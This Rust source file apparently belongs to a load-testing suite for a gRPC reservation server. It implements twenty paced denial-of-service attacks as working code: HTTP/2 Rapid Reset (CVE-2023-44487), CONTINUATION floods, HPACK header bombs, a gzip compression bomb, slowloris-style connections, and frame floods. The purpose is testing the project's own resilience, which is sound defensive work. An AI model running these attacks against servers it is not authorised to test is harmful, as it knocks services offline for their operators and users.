//! Attacks on a server, in steps, so that their length and pace can be chosen. The tests here set the number of steps;
//! `reservd-bench attacks` sets the steps per second.
//!
//! A client without a token can make each of these attacks, or the server runs without authentication: the attack comes
//! before any work for a caller, or keeps that work minimal.

use std::{
    io::Write as _,
    net::{IpAddr, SocketAddr},
    sync::LazyLock,
    time::Duration,
};

use tokio::{
    net::{TcpSocket, TcpStream},
    time::{Instant, sleep_until, timeout},
};

use super::http2_frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, call,
    call_with, frame, message,
};

const RESERVE: &str = "/reservd.v1.ReservationService/Reserve";
const GET_EVENT: &str = "/reservd.v1.EventService/GetEvent";
const LIST_EVENTS: &str = "/reservd.v1.EventService/ListEvents";
const WATCH_CHANGES: &str = "/reservd.v1.FeedService/WatchChanges";
const WATCH_HEALTH: &str = "/grpc.health.v1.Health/Watch";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// Another address of this machine, where it has more than one: limits by address are for attackers.
pub const ATTACKER: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 2));
/// Streams on one connection before the next connection is opened: as many as the server allows.
const STREAMS: u32 = 512;
/// How long an attacker waits for a server that reads no more, before it opens another connection.
const STUCK: Duration = Duration::from_millis(300);

/// The target of an attack.
#[derive(Clone, Debug)]
pub struct Target {
    /// The server.
    pub address: SocketAddr,
    /// An existing event.
    pub event_id: String,
}

/// The attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    RapidReset,
    AbandonedCalls,
    StreamFlood,
    ContinuationFlood,
    HeaderBomb,
    SilentConnections,
    SilentHttp2,
    Churn,
    SlowBodies,
    LargeMessages,
    CompressionBomb,
    Pings,
    Settings,
    EmptyFrames,
    UnreadAnswers,
    TrickledAnswers,
    UnreadWatches,
    HealthWatches,
    IdleReflection,
    SlowHandshakes,
}

impl Attack {
    pub const ALL: [Self; 20] = [
        Self::RapidReset,
        Self::AbandonedCalls,
        Self::StreamFlood,
        Self::ContinuationFlood,
        Self::HeaderBomb,
        Self::SilentConnections,
        Self::SilentHttp2,
        Self::Churn,
        Self::SlowBodies,
        Self::LargeMessages,
        Self::CompressionBomb,
        Self::Pings,
        Self::Settings,
        Self::EmptyFrames,
        Self::UnreadAnswers,
        Self::TrickledAnswers,
        Self::UnreadWatches,
        Self::HealthWatches,
        Self::IdleReflection,
        Self::SlowHandshakes,
    ];

    /// What the attack does, and how much of that is one step.
    pub const fn about(self) -> &'static str {
        match self {
            Self::RapidReset => "opens and resets streams (CVE-2023-44487): 50 a step",
            Self::AbandonedCalls => "makes whole calls and resets them once they were begun: 20 a step",
            Self::StreamFlood => "opens streams and leaves them open: 64 a step",
            Self::ContinuationFlood => "headers that never end, in CONTINUATION frames: 16 KiB a step",
            Self::HeaderBomb => "one byte of headers that stands for 4 KB of them: 8,000 a step",
            Self::SilentConnections => "opens connections and says nothing: 16 a step",
            Self::SilentHttp2 => "begins HTTP/2 and says nothing more: 16 a step",
            Self::Churn => "begins HTTP/2 and hangs up: 16 a step",
            Self::SlowBodies => "calls whose messages come byte by byte: 32 a step",
            Self::LargeMessages => "messages of 64 MiB, as much of them as is taken: 256 KiB a step",
            Self::CompressionBomb => "gzip of 64 KiB that stands for 64 MiB: 1 a step",
            Self::Pings => "PING frames, the answers left unread: 500 a step",
            Self::Settings => "SETTINGS frames, the answers left unread: 500 a step",
            Self::EmptyFrames => "empty DATA, PRIORITY and WINDOW_UPDATE frames: 900 a step",
            Self::UnreadAnswers => "asks for long answers and takes none: 4 a step",
            Self::TrickledAnswers => "the same, taking a byte of each: 4 a step",
            Self::UnreadWatches => "watches an event and takes nothing: 32 a step",
            Self::HealthWatches => "watches the health: 64 a step",
            Self::IdleReflection => "opens streams of reflection and asks nothing: 32 a step",
            Self::SlowHandshakes => "begins TLS, and goes on byte by byte: 16 a step",
        }
    }

    /// Attacks until its pace ends. Its connections then stay open until the attacker is dropped.
    pub async fn run(self, target: &Target, mut pace: Pace) -> Attacker {
        let mut attacker = Attacker { attack: self, target: target.clone(), open: Vec::new() };
        while pace.next().await {
            attacker.step().await;
        }
        attacker
    }
}

/// The length and speed of an attack.
#[derive(Debug)]
pub struct Pace {
    steps: u32,
    every: Duration,
    next: Instant,
}

impl Pace {
    /// This number of steps, one per `every`.
    pub fn new(steps: u32, every: Duration) -> Self {
        Self { steps, every, next: Instant::now() }
    }

    async fn next(&mut self) -> bool {
        if self.steps == 0 {
            return false;
        }
        self.steps -= 1;
        sleep_until(self.next).await;
        self.next += self.every;
        true
    }
}

/// A connection of an attacker.
struct Wire {
    stream: TcpStream,
    /// The next stream to open.
    number: u32,
}

impl Wire {
    async fn open(target: &Target) -> Option<Self> {
        let socket = TcpSocket::new_v4().ok()?;
        // Not every system has this address.
        let _ = socket.bind(SocketAddr::new(ATTACKER, 0));
        let stream = timeout(STUCK, socket.connect(target.address)).await.ok()?.ok()?;
        Some(Self { stream, number: 1 })
    }

    /// Sends all bytes, if the server reads them.
    async fn send(&mut self, bytes: &[u8]) -> bool {
        let mut sent = 0;
        while sent < bytes.len() {
            match self.stream.try_write(&bytes[sent..]) {
                Ok(more) => sent += more,
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {
                    if !matches!(timeout(STUCK, self.stream.writable()).await, Ok(Ok(()))) {
                        return false;
                    }
                }
                Err(_) => return false,
            }
        }
        true
    }

    /// Reads and drops the received bytes, so that the server can go on. False at the end.
    fn drain(&self) -> bool {
        let mut scratch = [0; 16 * 1024];
        loop {
            match self.stream.try_read(&mut scratch) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => return error.kind() == std::io::ErrorKind::WouldBlock,
            }
        }
    }

    fn next_stream(&mut self) -> u32 {
        let number = self.number;
        self.number += 2;
        number
    }
}

/// An attacker and its open connections.
pub struct Attacker {
    attack: Attack,
    target: Target,
    open: Vec<Wire>,
}

impl Attacker {
    async fn step(&mut self) {
        match self.attack {
            Attack::RapidReset => self.send_each(50, |n, _| [call(n, RESERVE), reset(n)].concat()).await,
            Attack::AbandonedCalls => {
                let asked = text_field(1, &self.target.event_id);
                // The streams of this step are reset in the next one, when the server has accepted them.
                let bytes = move |n: u32| [call(n, GET_EVENT), message(n, false, &asked)].concat();
                self.send_each(20, |n, _| [bytes(n), if n > 40 { reset(n - 40) } else { Vec::new() }].concat()).await;
            }
            Attack::StreamFlood => self.send_each(64, |n, _| call(n, RESERVE)).await,
            Attack::ContinuationFlood => {
                // A literal header without a name in the table, which is not indexed.
                let some = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat().repeat(150);
                let (first, more) = (frame(HEADERS, 0, 1, &[0x83]), frame(CONTINUATION, 0, 1, &some));
                self.send_each(1, |n, _| if n == 1 { [&first[..], &more].concat() } else { more.clone() }).await;
            }
            Attack::HeaderBomb => {
                // The first header goes into the table; one byte then repeats it.
                let long = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'y'; 4000]].concat();
                let block = [&[0x83, 0x86, 0x84][..], &long, &[0xbe; 8000]].concat();
                self.send_each(1, |n, _| frame(HEADERS, END_HEADERS, n, &block)).await;
            }
            Attack::SilentConnections => self.connect(16, b"").await,
            Attack::SilentHttp2 => self.connect(16, &greeting(&[])).await,
            Attack::Churn => {
                self.connect(16, &greeting(&[])).await;
                self.open.clear();
            }
            Attack::SlowBodies => {
                let prefix = [0, 0, 0, 1, 0];
                self.send_each(32, |n, _| {
                    [call_with(n, RESERVE, &[("grpc-timeout", "60S")]), frame(DATA, 0, n, &prefix)].concat()
                })
                .await;
                self.add_a_byte().await;
            }
            Attack::LargeMessages => {
                let head = [&[0][..], &(64_u32 << 20).to_be_bytes()].concat();
                let more = [0; 16 * 1024];
                self.send_each(1, |n, _| {
                    [call(n, RESERVE), frame(DATA, 0, n, &head), frame(DATA, 0, n, &more).repeat(16)].concat()
                })
                .await;
            }
            Attack::CompressionBomb => {
                static BOMB: LazyLock<Vec<u8>> = LazyLock::new(bomb);
                self.send_each(1, |n, _| {
                    [call_with(n, RESERVE, &[("grpc-encoding", "gzip")]), message(n, true, &BOMB)].concat()
                })
                .await;
            }
            Attack::Pings => self.send_unread(&frame(PING, 0, 0, &[7; 8]).repeat(500)).await,
            Attack::Settings => self.send_unread(&frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(500)).await,
            Attack::EmptyFrames => {
                self.send_each(1, |n, _| {
                    let update = frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
                    let nothing = [frame(DATA, 0, n, &[]), frame(PRIORITY, 0, n, &[0, 0, 0, 0, 1]), update].concat();
                    [call(n, RESERVE), nothing.repeat(300), reset(n)].concat()
                })
                .await;
            }
            Attack::UnreadAnswers => self.ask(4, LIST_EVENTS, &[0x30, 100], 0).await,
            Attack::TrickledAnswers => self.ask(4, LIST_EVENTS, &[0x30, 100], 1).await,
            Attack::UnreadWatches => {
                self.ask(32, WATCH_CHANGES, &text_field(1, &self.target.event_id.clone()), 0).await
            }
            Attack::HealthWatches => self.ask(64, WATCH_HEALTH, &[], 65_535).await,
            Attack::IdleReflection => self.send_each(32, |n, _| call(n, REFLECTION)).await,
            Attack::SlowHandshakes => {
                // The beginning of a ClientHello of 512 bytes.
                self.connect(16, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03").await;
                let mut alive = Vec::new();
                for mut wire in self.open.drain(..) {
                    if wire.send(&[0]).await {
                        alive.push(wire);
                    }
                }
                self.open = alive;
            }
        }
    }

    /// Sends these bytes for each of `count` new streams.
    async fn send_each(&mut self, count: u32, bytes: impl Fn(u32, u32) -> Vec<u8>) {
        self.send_after(count, &greeting(&[]), bytes).await;
    }

    /// Sends calls on a connection whose streams accept only `window` bytes of the answers.
    async fn ask(&mut self, count: u32, path: &str, asked: &[u8], window: u32) {
        let greeting = greeting(&[(0x4, window)]);
        self.send_after(count, &greeting, |n, _| [call(n, path), message(n, false, asked)].concat()).await;
    }

    async fn send_after(&mut self, count: u32, greeting: &[u8], bytes: impl Fn(u32, u32) -> Vec<u8>) {
        // Attacks that leave no stream open need no second connection.
        let leaves_none = matches!(
            self.attack,
            Attack::RapidReset | Attack::AbandonedCalls | Attack::ContinuationFlood | Attack::EmptyFrames
        );
        let has_room = |wire: &Wire| leaves_none || wire.number / 2 + count <= STREAMS;
        if !self.open.last().is_some_and(has_room) {
            let Some(mut wire) = Wire::open(&self.target).await else { return };
            if !wire.send(greeting).await {
                return;
            }
            self.open.push(wire);
        }
        let Some(wire) = self.open.last_mut() else { return };
        let all = (0..count).map(|step| bytes(wire.next_stream(), step)).collect::<Vec<_>>().concat();
        let is_alive = wire.send(&all).await && wire.drain();
        if !is_alive {
            self.open.pop();
        }
        self.open.retain(Wire::drain);
    }

    async fn send_unread(&mut self, bytes: &[u8]) {
        if self.open.is_empty() {
            self.connect(1, &greeting(&[])).await;
        }
        if let Some(wire) = self.open.first_mut()
            && !wire.send(bytes).await
        {
            self.open.clear();
        }
    }

    async fn connect(&mut self, count: u32, first: &[u8]) {
        self.open.retain(Wire::drain);
        for _ in 0..count {
            let Some(mut wire) = Wire::open(&self.target).await else { return };
            if wire.send(first).await {
                self.open.push(wire);
            }
        }
    }

    /// Sends one more byte of a message on each connection.
    async fn add_a_byte(&mut self) {
        for wire in &mut self.open {
            let last = wire.number - 2;
            wire.send(&frame(DATA, 0, last, &[0])).await;
        }
    }
}

/// The beginning of a connection with these settings.
fn greeting(settings: &[(u16, u32)]) -> Vec<u8> {
    let payload: Vec<u8> =
        settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
    [PREFACE, &frame(SETTINGS, 0, 0, &payload)].concat()
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// A message with one short field of text.
fn text_field(number: u8, text: &str) -> Vec<u8> {
    [&[number << 3 | 2, u8::try_from(text.len()).expect("short")], text.as_bytes()].concat()
}

/// 64 MiB of zeros, compressed.
fn bomb() -> Vec<u8> {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        packed.write_all(&[0; 1 << 20]).expect("memory takes it");
    }
    packed.finish().expect("memory takes it")
}
